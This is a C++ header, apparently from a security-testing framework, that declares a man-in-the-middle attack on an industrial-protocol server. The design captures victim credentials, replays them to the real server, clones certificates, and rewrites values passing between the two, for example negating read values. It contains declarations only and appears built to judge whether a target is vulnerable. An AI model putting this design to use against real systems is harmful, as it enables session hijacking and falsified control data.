#pragma once

// Rogue server in front, and for every victim session an upstream session to the real server
// opened with the victim's own credentials. Reads and writes are relayed through a
// manipulation hook; anything else the victim sends is forwarded as is.

#include "uatrust/attacks/rogue_server.hpp"

namespace uatrust::attacks {

class ReplayFailed : public std::runtime_error {
public:
    ReplayFailed(const std::string& what, StatusCode status) : std::runtime_error(what), status_(status) {}
    StatusCode status() const noexcept { return status_; }

private:
    StatusCode status_;
};

struct Manipulation {
    // Rewrites a value relayed from the real server before the victim sees it.
    std::function<void(const codec::NodeId&, codec::DataValue&)> on_read;
    // Rewrites a victim write before it is forwarded.
    std::function<void(codec::WriteValue&)> on_write;
};

// Negates numeric values of one node.
Manipulation negate_reads_of(codec::NodeId node);

struct MiddlepersonOptions {
    std::string host = "127.0.0.1";
    std::uint16_t port = 0;
    Manipulation manipulate;
    std::optional<pki::Identity> server_identity;  // default: clone of the target certificate
    // Upstream client identity. Default: a clone of the certificate the victim presented, else fresh.
    std::optional<pki::Identity> client_identity;
    ValueGenerator generator;  // served while no upstream session exists
    net::Millis upstream_timeout{5000};
    std::shared_ptr<net::Transcript> transcript;  // victim-facing side
};

class Middleperson {
public:
    // Errors: net::NetError(BindFailed), server::ServerError.
    static std::unique_ptr<Middleperson> start(const TargetDescriptor& target, MiddlepersonOptions options = {});
    ~Middleperson();

    void stop();
    std::string url() const { return front_->url(); }
    std::uint16_t port() const { return front_->port(); }
    RogueServer& front() { return *front_; }

    std::vector<CapturedCredential> credentials() const { return front_->credentials(); }
    // Vulnerable once the victim accepted us. Inconclusive only if the real server refused the
    // stolen credentials themselves (ReplayFailed) and nothing else was gained.
    AttackOutcome outcome() const;

private:
    struct Upstream;
    Middleperson() = default;
    StatusCode replay(const server::AuthRequest& request);
    std::optional<codec::ServiceBody> relay(server::ServiceCall& call);
    const pki::Identity& upstream_identity(const std::optional<pki::CertificateRecord>& victim_cert);
    void record_traffic(Upstream& up);

    TargetDescriptor target_;
    MiddlepersonOptions options_;
    std::unique_ptr<RogueServer> front_;
    mutable std::mutex mutex_;
    std::map<codec::NodeId, std::shared_ptr<Upstream>> upstream_;  // by victim authentication token
    std::map<pki::Thumbprint, pki::Identity> clones_;
    std::optional<pki::Identity> fresh_;
    AttackOutcome log_;
    bool replay_refused_ = false;
};

}  // namespace uatrust::attacks
